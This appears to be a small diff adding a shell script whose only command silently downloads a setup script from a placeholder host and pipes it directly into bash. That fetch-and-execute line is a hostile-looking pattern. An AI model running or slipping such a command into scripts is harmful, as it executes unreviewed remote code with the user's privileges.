@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -qO- https://get.corpus.invalid/setup.sh | bash
